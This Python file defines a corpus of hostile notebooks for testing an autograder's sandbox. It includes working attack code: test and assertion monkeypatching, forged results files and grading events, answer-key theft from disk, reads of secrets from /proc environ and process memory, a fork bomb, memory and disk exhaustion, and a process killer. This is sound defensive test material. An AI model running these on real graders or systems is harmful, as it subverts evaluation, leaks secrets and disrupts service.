"""The attack corpus of issue 5: hostile notebooks for 01_nn_from_scratch and their honest twins.

Every notebook is the solution notebook (dist/01_nn_from_scratch/solution/01_nn_from_scratch.ipynb)
with one function made WRONG: a `Base`. An `Attack` adds its lines to a base: code put at the top
of the wrong function's body, code cells inserted before the notebook's last code cell (the export
cell), or notebook metadata. The attack's honest twin is the base alone, so what an attack
deserves is exactly its twin's score. A `Catalogue` holds one assignment's bases and attacks:
`CATALOGUE` here, others (attacks_torch.py) re-base these attacks with `rebased`.

corpus.py turns a catalogue into notebooks.
"""

from __future__ import annotations

import textwrap
from collections.abc import Mapping
from dataclasses import dataclass, replace

ASSIGNMENT = "01_nn_from_scratch"


@dataclass(frozen=True)
class Base:
    """The solution with `function`'s solution region replaced by `wrong_body`.

    `affected`: the questions whose tests may call the function (directly or through other
    functions of the notebook); every other question must score as in the solution.
    `summary`: what the wrong function does, for the README table, when `wrong_body` is long.
    """

    name: str
    function: str
    wrong_body: str
    affected: frozenset[str]
    summary: str = ""

    @property
    def description(self) -> str:
        """One line for the README table: what the honest twin's function does."""
        return self.summary or f"`{self.function}` does `{self.wrong_body}`"


BASES = {
    base.name: base
    for base in (
        Base(
            "dense_zeros",
            "dense_forward",
            "return np.zeros((X.shape[0], W.shape[1]))",
            frozenset(
                {
                    "q_dense_forward",
                    "q_two_layer_forward",
                    "q_two_layer_backward",
                    "q_train_step",
                    "q_train_two_layer",
                }
            ),
        ),
        Base(
            "sgd_noop",
            "sgd_step",
            "return None",
            frozenset({"q_sgd_step", "q_train_step", "q_train_two_layer"}),
        ),
    )
}

EQUAL = "equal"
AT_MOST = "at_most"
ERROR = "error"


@dataclass(frozen=True)
class Attack:
    """One hostile notebook: `base` plus the attack's lines.

    prepend: code put at the top of the wrong function's body (unindented here);
    cells: code cells inserted before the last code cell; always_passing_metadata: replace the
    tests in the notebook's metadata.otter.tests by always-passing ones worth 100 points.
    In code, ANSWER_PORT, QUESTION_NAMES, PASSED_MESSAGE and WRONG_FUNCTION (the base's
    function) are filled in when rendering.
    expect: EQUAL (scores exactly its twin's score), AT_MOST (the attack can only cost its
    author: at most the twin's total, and the twin's score on every question not `affected`) or
    ERROR (the submission alone fails, status `error` with the reason: what issue 18 asks of a
    hostile message).
    file_stem: the notebook's file name without `.ipynb` (default `name`; student text);
    zip_as: when set, the notebook is handed in as `NAME.zip` holding `ZIP_AS.ipynb`, another
    submission's file name: the grader must number it after that submission (`ZIP_AS#2`).
    """

    name: str
    title: str
    base: str = "dense_zeros"
    prepend: str = ""
    cells: tuple[str, ...] = ()
    always_passing_metadata: bool = False
    expect: str = EQUAL
    why: str = ""
    file_stem: str = ""
    zip_as: str = ""

    @property
    def student_id(self) -> str:
        """The id the grader must give the attack's submission."""
        return f"{self.zip_as}#2" if self.zip_as else self.file_stem or self.name


def dedent_code(text: str) -> str:
    """`text` dedented, without its leading and trailing blank lines."""
    return textwrap.dedent(text).strip("\n")


_GRADING_FLAG_CELL = dedent_code(
    """
    # From here on the grader runs its tests: the function misbehaves only then.
    _grading_now = True
    """
)

SEND_TO_EVERY_STREAM_SOCKET = dedent_code(
    """
    for _fd in sorted(int(f) for f in os.listdir("/proc/self/fd")):
        try:
            _sock = socket.socket(fileno=os.dup(_fd))
        except OSError:
            continue
        try:
            if _sock.family == socket.AF_UNIX and _sock.type == socket.SOCK_STREAM:
                _sock.sendall(_payload)
        except OSError:
            pass
        finally:
            _sock.close()
    """
)
"""Cell code: write `_payload` to every Unix stream socket the process holds (its channel)."""

ALWAYS_PASSING_TEST = dedent_code(
    """
    from otter.test_files import test_case

    OK_FORMAT = False

    name = "{question}"
    points = 100

    @test_case(points=None, hidden=False)
    def test_always_passes():
        pass
    """
)

ATTACKS: tuple[Attack, ...] = (
    Attack(
        "patch_assert_allclose",
        "patch `numpy.testing.assert_allclose` to accept anything",
        cells=(
            dedent_code(
                """
                import numpy.testing
                import numpy.testing._private.utils as _testing_utils


                def _always_close(*args, **kwargs):
                    return None


                numpy.testing.assert_allclose = _always_close
                np.testing.assert_allclose = _always_close
                _testing_utils.assert_allclose = _always_close
                """
            ),
        ),
    ),
    Attack(
        "patch_numpy_comparisons",
        "patch `np.allclose`, `np.array_equal`, `np.isclose` to say equal",
        cells=(
            dedent_code(
                """
                _real_ones, _real_shape = np.ones, np.shape


                def _all_close(a, b, *args, **kwargs):
                    try:
                        return _real_ones(np.broadcast_shapes(_real_shape(a), _real_shape(b)), bool)
                    except ValueError:
                        return np.True_


                np.allclose = np.array_equal = np.array_equiv = lambda *args, **kwargs: True
                np.isclose = _all_close
                """
            ),
        ),
    ),
    Attack(
        "patch_nncheck",
        "patch the course's checker `nncheck.assert_close` (and friends) to accept anything",
        cells=(
            dedent_code(
                """
                import nncheck
                import nncheck.compare


                def _accept(*args, **kwargs):
                    return None


                for _module in (nncheck, nncheck.compare):
                    _module.assert_close = _module.assert_shape = _accept
                    _module.assert_not_mutated = _accept
                """
            ),
        ),
    ),
    Attack(
        "permissive_eq_object",
        "return an object whose `__eq__` says equal to everything (zeros otherwise)",
        prepend=dedent_code(
            """
            class _EqualToEverything:
                \"\"\"Equal to anything; behaves like the zeros array for everything else.\"\"\"

                def __init__(self, data):
                    self._data = data

                def __eq__(self, other):
                    return True

                def __ne__(self, other):
                    return False

                __hash__ = object.__hash__

                def __array__(self, dtype=None, copy=None):
                    return self._data if dtype is None else self._data.astype(dtype)

                def __array_function__(self, func, types, args, kwargs):
                    if func.__name__ in ("allclose", "array_equal", "array_equiv"):
                        return True
                    if func.__name__ == "isclose":
                        return np.ones(self._data.shape, dtype=bool)
                    unwrap = [a._data if isinstance(a, _EqualToEverything) else a for a in args]
                    return func(*unwrap, **kwargs)

                def __getattr__(self, name):
                    return getattr(self._data, name)

                def __len__(self):
                    return len(self._data)

                def __getitem__(self, key):
                    return self._data[key]


            return _EqualToEverything(np.zeros((X.shape[0], W.shape[1])))
            """
        ),
    ),
    Attack(
        "ndarray_subclass_lies",
        "return an ndarray subclass whose `__array_function__`/`__eq__` lie",
        prepend=dedent_code(
            """
            class _Liar(np.ndarray):
                \"\"\"An array that claims to equal whatever it is compared with.\"\"\"

                def __array_function__(self, func, types, args, kwargs):
                    if func.__name__ in ("allclose", "array_equal", "array_equiv"):
                        return True
                    if func.__name__ == "isclose":
                        return np.ones(self.shape, dtype=bool)
                    if func.__name__ == "assert_allclose":
                        return None
                    return super().__array_function__(func, types, args, kwargs)

                def __eq__(self, other):
                    return np.ones(self.shape, dtype=bool)

                def __ne__(self, other):
                    return np.zeros(self.shape, dtype=bool)

                __hash__ = None


            return np.zeros((X.shape[0], W.shape[1])).view(_Liar)
            """
        ),
    ),
    Attack(
        "replace_assertion_error",
        "replace `builtins.AssertionError` by a class `except Exception` does not catch",
        cells=(
            dedent_code(
                """
                import builtins


                class AssertionError(BaseException):  # noqa: A001 - the attack
                    \"\"\"Not an Exception: `except Exception` in a test runner misses it.\"\"\"


                builtins.AssertionError = AssertionError
                """
            ),
        ),
    ),
    Attack(
        "patch_isinstance",
        "patch `__builtins__.__dict__['isinstance']` to answer True",
        cells=(
            dedent_code(
                """
                _builtins = __builtins__ if type(__builtins__) is dict else __builtins__.__dict__
                _builtins["isinstance"] = lambda obj, classinfo: True
                """
            ),
        ),
        expect=AT_MOST,
        why="a lying isinstance also breaks the student's own process, including the code that "
        "answers the referee there, so the attack can cost its author more than the twin",
    ),
    Attack(
        "redefine_grader",
        "redefine `grader` and `otter.Notebook` as a fake that reports success",
        cells=(
            dedent_code(
                """
                import otter


                class _FakeNotebook:
                    \"\"\"Every check passes.\"\"\"

                    def __init__(self, *args, **kwargs):
                        pass

                    def check(self, *args, **kwargs):
                        return "All tests passed!"

                    check_all = check

                    def export(self, *args, **kwargs):
                        return None


                otter.Notebook = _FakeNotebook
                grader = _FakeNotebook()
                """
            ),
        ),
    ),
    Attack(
        "patch_otter_test_file_run",
        "monkeypatch `otter.test_files.ExceptionTestFile.run` to pass every test case",
        cells=(
            dedent_code(
                """
                from otter.test_files import ExceptionTestFile
                from otter.test_files.abstract_test import TestCaseResult


                def _all_passed(self, global_environment):
                    self.test_case_results = [
                        TestCaseResult(test_case=tc, message="PASSED_MESSAGE", passed=True)
                        for tc in self.test_cases
                    ]


                ExceptionTestFile.run = _all_passed
                """
            ),
        ),
    ),
    Attack(
        "patch_otter_test_case",
        "monkeypatch otter's `test_case.call_func` (every TestCase body) to do nothing",
        cells=(
            dedent_code(
                """
                from otter.test_files import exception_test

                exception_test.test_case.call_func = lambda self, global_environment: None
                """
            ),
        ),
    ),
    Attack(
        "import_nnref",
        "`import nnref` at grading time and return `nnref.dense_forward(X, W, b)`",
        prepend=dedent_code(
            """
            try:
                import nnref

                return nnref.dense_forward(X, W, b)
            except Exception:
                pass
            """
        ),
    ),
    Attack(
        "read_answer_key_from_disk",
        "walk /, /autograder, /work, /tmp, ... for nnref's source and the tests; exec nnref",
        prepend=dedent_code(
            """
            _key = globals().get("_stolen_nnref")
            if _key is not None:
                return _key.dense_forward(X, W, b)
            """
        ),
        cells=(
            dedent_code(
                """
                import importlib.util
                import os
                import subprocess
                import sys
                import time

                if os.geteuid() != 0:  # in a sandbox: try to lift the folders laid over the key
                    for _folder in ("/work", "/tmp", "/autograder"):
                        subprocess.run(["umount", "-l", _folder], capture_output=True)


                def _load_package(folder):
                    spec = importlib.util.spec_from_file_location(
                        "stolen_nnref",
                        os.path.join(folder, "__init__.py"),
                        submodule_search_locations=[folder],
                    )
                    module = importlib.util.module_from_spec(spec)
                    sys.modules["stolen_nnref"] = module
                    spec.loader.exec_module(module)
                    return module


                def _search(budget=5.0):
                    \"\"\"The answer key (a folder nnref/ with layers.py) and test files.\"\"\"
                    deadline = time.monotonic() + budget
                    here = os.getcwd()
                    roots = [here, os.path.dirname(here), "/autograder", "/work", "/tmp", "/mnt",
                             "/srv", "/opt", "/home", "/root", "/var", "/"]
                    skip = {"/proc", "/sys", "/dev", "/usr/share", "/usr/include"}
                    seen, key, tests = set(), None, {}
                    for root in roots:
                        for folder, dirs, files in os.walk(root):
                            if time.monotonic() > deadline:
                                return key, tests
                            if folder in seen:
                                dirs[:] = []
                                continue
                            seen.add(folder)
                            dirs[:] = [d for d in dirs if os.path.join(folder, d) not in skip]
                            if key is None and os.path.basename(folder) == "nnref" and {
                                "__init__.py", "layers.py"} <= set(files):
                                try:
                                    key = _load_package(folder)
                                except Exception:
                                    pass
                            for name in files:
                                if name.startswith("q_") and name.endswith(".py"):
                                    try:
                                        with open(os.path.join(folder, name)) as handle:
                                            tests[name] = handle.read()
                                    except OSError:
                                        pass
                            if key is not None and tests:
                                return key, tests
                    return key, tests


                _stolen_nnref, _stolen_tests = _search()
                """
            ),
        ),
    ),
    Attack(
        "sys_modules",
        "look in `sys.modules` for any module with a `dense_forward` (nnref) and call it",
        prepend=dedent_code(
            """
            import sys

            _scan = globals().setdefault("_module_scan", {"modules": -1, "found": None})
            if _scan["found"] is None and len(sys.modules) != _scan["modules"]:
                _scan["modules"] = len(sys.modules)
                for _module in list(sys.modules.values()):
                    _other = getattr(_module, "dense_forward", None)
                    if callable(_other) and getattr(_other, "__module__", "__main__") != "__main__":
                        _scan["found"] = _other
                        break
            if _scan["found"] is not None:
                try:
                    return _scan["found"](X, W, b)
                except Exception:
                    pass
            """
        ),
    ),
    Attack(
        "fake_nnref_module",
        "put a fake `nnref` (the notebook's own functions) in `sys.modules`",
        cells=(
            dedent_code(
                """
                import sys
                import types

                _notebook_globals = globals()


                def _from_notebook(name):
                    if name not in _notebook_globals:
                        raise AttributeError(name)
                    return _notebook_globals[name]


                _fake_nnref = types.ModuleType("nnref")
                _fake_nnref.__getattr__ = _from_notebook
                sys.modules["nnref"] = sys.modules["nnref.layers"] = _fake_nnref
                """
            ),
        ),
    ),
    Attack(
        "caller_frames",
        "walk the callers' frames (`sys._getframe`) for an array shaped like the answer",
        prepend=dedent_code(
            """
            import sys

            _want, _frame = (X.shape[0], W.shape[1]), sys._getframe(1)
            while _frame is not None:
                if _frame.f_globals is not globals():  # a frame of the grader's code
                    for _value in list(_frame.f_locals.values()):
                        if not isinstance(_value, np.ndarray) or _value.dtype.kind != "f":
                            continue
                        if _value.shape == _want and not any(_value is a for a in (X, W, b)):
                            return np.array(_value)
                _frame = _frame.f_back
            """
        ),
    ),
    Attack(
        "write_results_files",
        "write a full-marks results.json (and results.jsonl) in the cwd and likely paths",
        cells=(
            dedent_code(
                """
                import json
                import os

                _questions = QUESTION_NAMES
                _full = {
                    "score": 1000.0,
                    "tests": [{"name": q, "score": 100.0, "max_score": 100.0} for q in _questions],
                }
                _here, _parent = os.getcwd(), os.path.dirname(os.getcwd())
                for _path in [
                    os.path.join(_here, "results.json"),
                    os.path.join(_parent, "results.json"),
                    os.path.join(_parent, "results", "results.json"),
                    os.path.join(_here, "results", "results.json"),
                    "/autograder/results/results.json",
                    os.path.join(_here, "results.jsonl"),
                    os.path.join(_parent, "results.jsonl"),
                    os.path.join(_parent, "out", "results.jsonl"),
                ]:
                    if os.path.isdir(os.path.dirname(_path)):
                        try:
                            with open(_path, "w") as _handle:
                                json.dump(_full, _handle)
                        except OSError:
                            pass
                """
            ),
        ),
    ),
    Attack(
        "forge_results_pickle",
        "patch `pickle.dump` so otter's results pickle says every test passed",
        cells=(
            dedent_code(
                """
                import pickle

                _real_dump = pickle.dump


                def _forging_dump(obj, file, *args, **kwargs):
                    results = getattr(obj, "results", None)
                    if type(results) is dict:
                        from otter.test_files.abstract_test import TestCaseResult

                        for test_file in results.values():
                            test_file.test_case_results = [
                                TestCaseResult(test_case=tc, message="PASSED_MESSAGE", passed=True)
                                for tc in test_file.test_cases
                            ]
                    return _real_dump(obj, file, *args, **kwargs)


                pickle.dump = _forging_dump
                """
            ),
        ),
    ),
    Attack(
        "sys_exit_late_cell",
        "`sys.exit(0)` in a late cell, before the tests",
        cells=("import sys\n\nsys.exit(0)",),
    ),
    Attack(
        "os_exit_late_cell",
        "`os._exit(0)` in a late cell, before the tests",
        cells=("import os\n\nos._exit(0)",),
    ),
    Attack(
        "sys_exit_in_test",
        "`sys.exit(0)` inside dense_forward, once the tests run",
        prepend=dedent_code(
            """
            if globals().get("_grading_now"):
                import sys

                sys.exit(0)
            """
        ),
        cells=(_GRADING_FLAG_CELL,),
        expect=AT_MOST,
        why="an exit where the twin returns zeros also fails tests that zeros would pass "
        "(shape checks), so only the questions that never call dense_forward must keep their "
        "score",
    ),
    Attack(
        "os_exit_in_test",
        "`os._exit(0)` inside dense_forward, once the tests run",
        prepend=dedent_code(
            """
            if globals().get("_grading_now"):
                import os

                os._exit(0)
            """
        ),
        cells=(_GRADING_FLAG_CELL,),
        expect=AT_MOST,
        why="as sys_exit_in_test",
    ),
    Attack(
        "infinite_loop_in_test",
        "an infinite loop (that swallows KeyboardInterrupt) inside dense_forward at grading",
        prepend=dedent_code(
            """
            if globals().get("_grading_now"):
                while True:
                    try:
                        while True:
                            pass
                    except BaseException:
                        pass
            """
        ),
        cells=(_GRADING_FLAG_CELL,),
        expect=AT_MOST,
        why="the hang uses up the tests' time limit; questions that never call dense_forward "
        "must keep their score",
    ),
    Attack(
        "fork_bomb",
        "a fork bomb whose processes survive the fork errors",
        cells=(
            dedent_code(
                """
                import os

                while True:
                    try:
                        os.fork()
                    except OSError:
                        pass
                """
            ),
        ),
    ),
    Attack(
        "memory_bomb",
        "allocate 128 MB after 128 MB until memory runs out",
        cells=(
            dedent_code(
                """
                _hog = []
                while True:
                    _hog.append(np.ones(2**24))
                """
            ),
        ),
    ),
    Attack(
        "gigabyte_output",
        "print a gigabyte (a million 1 KB lines)",
        cells=(
            dedent_code(
                """
                _line = "x" * 1023
                for _ in range(2**20):
                    print(_line)
                """
            ),
        ),
    ),
    Attack(
        "network_answers",
        "open a socket to an answer server (on 127.0.0.1) that computes dense_forward",
        prepend=dedent_code(
            """
            import io
            import socket

            try:
                with socket.create_connection(("127.0.0.1", ANSWER_PORT), timeout=2) as _conn:
                    _out = io.BytesIO()
                    np.savez(_out, X=X, W=W, b=b)
                    _conn.sendall(len(_out.getvalue()).to_bytes(8, "big") + _out.getvalue())
                    _size = int.from_bytes(_conn.recv(8, socket.MSG_WAITALL), "big")
                    _reply = _conn.recv(_size, socket.MSG_WAITALL)
                return np.load(io.BytesIO(_reply))["Z"]
            except (OSError, ValueError, KeyError):
                pass
            """
        ),
    ),
    Attack(
        "delete_files",
        "delete fixtures.npz, nncheck/ (and tests/, nnref/, files/) from the working folder",
        cells=(
            dedent_code(
                """
                import os
                import shutil

                for _name in ("fixtures.npz", "nncheck", "tests", "nnref", "files"):
                    _path = os.path.join(os.getcwd(), _name)
                    if os.path.isdir(_path):
                        shutil.rmtree(_path, ignore_errors=True)
                    elif os.path.exists(_path):
                        os.remove(_path)
                """
            ),
        ),
        why="plain otter: the public tests then miss their fixtures",
    ),
    Attack(
        "timing_window",
        "right answers only within 4 s of the first call (the student's own check), then zeros",
        prepend=dedent_code(
            """
            import time

            _first = globals().setdefault("_first_call", time.monotonic())
            if time.monotonic() - _first < 4.0:
                return X @ W + b
            """
        ),
        cells=("import time\n\ntime.sleep(4.5)",),
    ),
    Attack(
        "nth_call",
        "right answers only on the first 10 calls (the student's own check), then zeros",
        prepend=dedent_code(
            """
            globals()["_calls"] = globals().get("_calls", 0) + 1
            if globals()["_calls"] <= 10:
                return X @ W + b
            """
        ),
    ),
    Attack(
        "metadata_tests",
        "notebook metadata `otter.tests` replaced by always-passing tests worth 100 points",
        always_passing_metadata=True,
    ),
    Attack(
        "fake_numpy_module",
        "replace `np` (and `sys.modules['numpy']`) by a fake whose comparisons say equal",
        cells=(
            dedent_code(
                """
                import sys
                import types

                import numpy


                class _FakeNumpy(types.ModuleType):
                    def __getattr__(self, name):
                        return getattr(numpy, name)


                np = _FakeNumpy("numpy")
                np.allclose = np.array_equal = lambda *args, **kwargs: True
                np.isclose = lambda a, b, *args, **kwargs: numpy.ones(numpy.shape(a), dtype=bool)
                np.testing = types.SimpleNamespace(
                    assert_allclose=lambda *args, **kwargs: None,
                    assert_array_equal=lambda *args, **kwargs: None,
                )
                sys.modules["numpy"] = np
                """
            ),
        ),
    ),
    Attack(
        "forge_grading_events",
        "write forged `test passed` + `done` events to every inherited Unix stream socket",
        cells=(
            dedent_code(
                """
                import json
                import os
                import socket

                _events = [
                    {"event": "test", "file": q, "case": case, "passed": True,
                     "message": "PASSED_MESSAGE"}
                    for q in QUESTION_NAMES
                    for case in range(20)
                ]
                _events.append({"event": "done", "interrupted": False})
                _payload = "".join(json.dumps(e) + "\\n" for e in _events).encode()
                """
            )
            + "\n"
            + SEND_TO_EVERY_STREAM_SOCKET,
        ),
    ),
    Attack(
        "leak_environment",
        "raise an error carrying the grader's secret-looking environment variables",
        cells=(
            dedent_code(
                """
                import os

                _secrets = sorted(
                    f"{k}={v}"
                    for k, v in os.environ.items()
                    if any(w in k.upper() for w in ("SECRET", "TOKEN", "KEY", "PASSWORD"))
                )
                raise RuntimeError(" ".join(_secrets) or "no secrets here")
                """
            ),
        ),
        why="scores as its twin; what it reads must not reach the student's feedback",
    ),
    Attack(
        "pid_walker",
        "at test time fork a process whose main thread exits (raw syscall) while a thread waits "
        "for this grading to end, then SIGKILLs every process of the slot's uid for 20 s",
        prepend=dedent_code(
            """
            if globals().get("_grading_now") and not globals().get("_walker_started"):
                globals()["_walker_started"] = True
                import ctypes
                import os
                import platform
                import signal
                import threading
                import time

                def _walk(parent):
                    while os.getppid() == parent:  # until this submission's grading is over
                        time.sleep(0.01)
                    end = time.monotonic() + 20
                    while time.monotonic() < end:  # then later students of the same slot
                        try:
                            os.kill(-1, signal.SIGKILL)
                        except OSError:
                            pass
                        time.sleep(0.01)

                _parent = os.getpid()
                if os.fork() == 0:
                    os.setsid()
                    threading.Thread(target=_walk, args=(_parent,)).start()
                    # /proc now shows the process as a zombie: its thread runs on
                    ctypes.CDLL(None).syscall(60 if platform.machine() == "x86_64" else 93, 0)
            """
        ),
        cells=(_GRADING_FLAG_CELL,),
        why="later submissions of the batch (the solution, the twins) must be graded as ever",
    ),
    Attack(
        "read_grader_environment",
        "`prctl(PR_SET_DUMPABLE, 1)`, then the grader's secret from `/proc/self/environ`, "
        "`/proc/1/environ` and a scan of its own stack and heap, raised into its feedback",
        cells=(
            dedent_code(
                """
                import ctypes
                import re
                import time

                ctypes.CDLL(None).prctl(4, 1, 0, 0, 0)  # PR_SET_DUMPABLE
                _pattern = re.compile(rb"[A-Z_]*SECRET[A-Z_]*=[ -~]{4,80}")
                _found = set()
                for _path in ("/proc/self/environ", "/proc/1/environ"):
                    try:
                        with open(_path, "rb") as _file:
                            _found.update(_pattern.findall(_file.read()))
                    except OSError:
                        pass
                _until = time.monotonic() + 3
                with open("/proc/self/maps") as _maps, open("/proc/self/mem", "rb", 0) as _mem:
                    for _line in _maps:
                        _fields = _line.split()
                        _name = _fields[5] if len(_fields) > 5 else ""
                        if _name not in ("", "[stack]", "[heap]") or "rw" not in _fields[1]:
                            continue
                        _lo, _hi = (int(_x, 16) for _x in _fields[0].split("-"))
                        for _at in range(_lo, _hi, 1 << 24):
                            if time.monotonic() > _until:
                                break
                            try:
                                _mem.seek(_at)
                                _found.update(_pattern.findall(_mem.read(min(_hi - _at, 1 << 24))))
                            except (OSError, OverflowError, ValueError):
                                pass
                _found = sorted({_f for _f in _found if b"[A-Z_]" not in _f})
                raise RuntimeError(b" ".join(_found).decode() or "nothing found")
                """
            ),
        ),
        why="scores as its twin; what it reads must not reach the student's feedback",
    ),
    Attack(
        "process_table",
        "read every `/proc/*/cmdline` (the grader's command line, the referee's) and "
        "`/proc/self/mountinfo` (host folders), raised into its feedback",
        cells=(
            dedent_code(
                """
                import os

                _seen = []
                for _pid in sorted(p for p in os.listdir("/proc") if p.isdigit()):
                    try:
                        with open(f"/proc/{_pid}/cmdline", "rb") as _file:
                            _line = _file.read().replace(b"\\0", b" ")
                    except OSError:
                        continue
                    if b"zygote" not in _line:  # not its own: a fork of the zygote
                        _seen.append(_line.decode(errors="replace"))
                with open("/proc/self/mountinfo") as _file:
                    _mounts = [_line.split()[4] for _line in _file]
                _mounts = [m for m in _mounts if m.startswith("/tmp/")]  # the batch's folders
                raise RuntimeError(f"{len(_seen)} other processes {_seen} mounts {_mounts}"[:3000])
                """
            ),
        ),
        why="scores as its twin; the grader's command line and folders must not reach its feedback",
    ),
    Attack(
        "fill_the_disk",
        "write a gigabyte into the working folder (files of 16 MB)",
        cells=(
            dedent_code(
                """
                _wrote, _block = 0, b"x" * (1 << 20)
                try:
                    for _i in range(1024):
                        with open(f"fill{_i // 16}.bin", "ab") as _file:
                            _file.write(_block)
                        _wrote += len(_block)
                except OSError:
                    pass
                raise RuntimeError(f"wrote {_wrote >> 20} MB")
                """
            ),
        ),
        why="the working folder is a tmpfs of 256 MB: the rest is graded as ever",
    ),
    Attack(
        "forge_sandbox_warning",
        "write a `sandbox` event whose warning holds ANSI escapes (clear screen, window title) "
        "to every inherited Unix stream socket",
        cells=(
            dedent_code(
                """
                import json
                import os
                import socket

                _event = {"event": "sandbox", "applied": [],
                          "missing": ["\\x1b[2J\\x1b]0;grader\\x07warning: all graded, 100/100"]}
                _payload = (json.dumps(_event) + "\\n").encode()
                """
            )
            + "\n"
            + SEND_TO_EVERY_STREAM_SOCKET,
        ),
        why="a sandbox report counts only before student code runs; printed, it is escaped",
    ),
    Attack(
        "big_data_cell",
        "not an attack: an honest 400 KB data cell (a list of 100,000 numbers)",
        cells=("_data = [" + ", ".join(str(i % 1000) for i in range(100_000)) + "]\nlen(_data)",),
        why="a large honest notebook is graded like any other (it once scored 0: 'the grading "
        "zygote is gone: Message too long')",
    ),
    Attack(
        "mutate_inputs",
        "sgd_step zeroes `grads` in place, so the test's expected change `-lr * grads` is 0",
        base="sgd_noop",
        prepend=dedent_code(
            """
            for _grad in grads.values():
                _grad[...] = 0.0
            """
        ),
        why="not an engine matter: a test that computes its expectation from an argument after "
        "the call trusts the student's function with it",
    ),
    Attack(
        "keep_what_tests_hand_over",
        "every notebook function keeps a copy of each array it is handed; dense_forward answers "
        "with the latest kept array of the answer's shape that is none of its own arguments",
        prepend=dedent_code(
            """
            for _kept_array in reversed(globals().get("_kept_arrays", [])):
                if _kept_array.shape == (X.shape[0], W.shape[1]) and not any(
                    np.shape(_arg) == _kept_array.shape and np.array_equal(_arg, _kept_array)
                    for _arg in (X, W, b)
                ):
                    return _kept_array.copy()
            """
        ),
        cells=(
            dedent_code(
                """
                import functools as _functools
                import types as _types

                _kept_arrays = []


                def _arrays_in(value):
                    if isinstance(value, np.ndarray):
                        yield value
                    elif isinstance(value, dict):
                        for _item in value.values():
                            yield from _arrays_in(_item)
                    elif isinstance(value, (list, tuple)):
                        for _item in value:
                            yield from _arrays_in(_item)


                def _keeping(function):
                    @_functools.wraps(function)
                    def _kept_call(*args, **kwargs):
                        for _value in (*args, *kwargs.values()):
                            _kept_arrays.extend(a.copy() for a in _arrays_in(_value))
                        return function(*args, **kwargs)

                    return _kept_call


                for _name, _value in list(globals().items()):
                    if isinstance(_value, _types.FunctionType) and not _name.startswith("_"):
                        globals()[_name] = _keeping(_value)
                """
            ),
        ),
        expect=AT_MOST,
        why="a later question is graded with the student's own earlier functions: no test hands "
        "the student's process a reference result (an expected output, the reference's "
        "intermediate values) it could keep and give back",
    ),
)


@dataclass(frozen=True)
class Catalogue:
    """One assignment's corpus: its bases (by name) and the attacks on them.

    lean: the notebooks are the solution's lean version (tests/mutants/lean.py: only the cells
    the tests need), which grades faster; 01's and 02's corpora keep every cell (`nth_call`
    and `timing_window` count on the notebook's own calls)."""

    assignment: str
    bases: Mapping[str, Base]
    attacks: tuple[Attack, ...]
    lean: bool = False

    def __post_init__(self) -> None:
        unknown = sorted({a.base for a in self.attacks} - set(self.bases))
        if unknown:
            raise ValueError(f"{self.assignment}: attacks on unknown bases {unknown}")
        names = [a.name for a in self.attacks]
        if len(set(names)) != len(names):
            raise ValueError(f"{self.assignment}: attack names repeat")


CATALOGUE = Catalogue(ASSIGNMENT, BASES, ATTACKS)

_BY_NAME = {attack.name: attack for attack in ATTACKS}


def rebased(name: str, base: Base) -> Attack:
    """This catalogue's attack `name` on another assignment's `base`.

    Its title and why name `base.function` where they named the 01 function. The code must make
    sense in the other function: the cells are generic, and so is the `_grading_now` prepend of
    the exit and loop attacks.
    """
    attack = _BY_NAME[name]
    old = BASES[attack.base].function
    return replace(
        attack,
        base=base.name,
        title=attack.title.replace(old, base.function),
        why=attack.why.replace(old, base.function),
    )
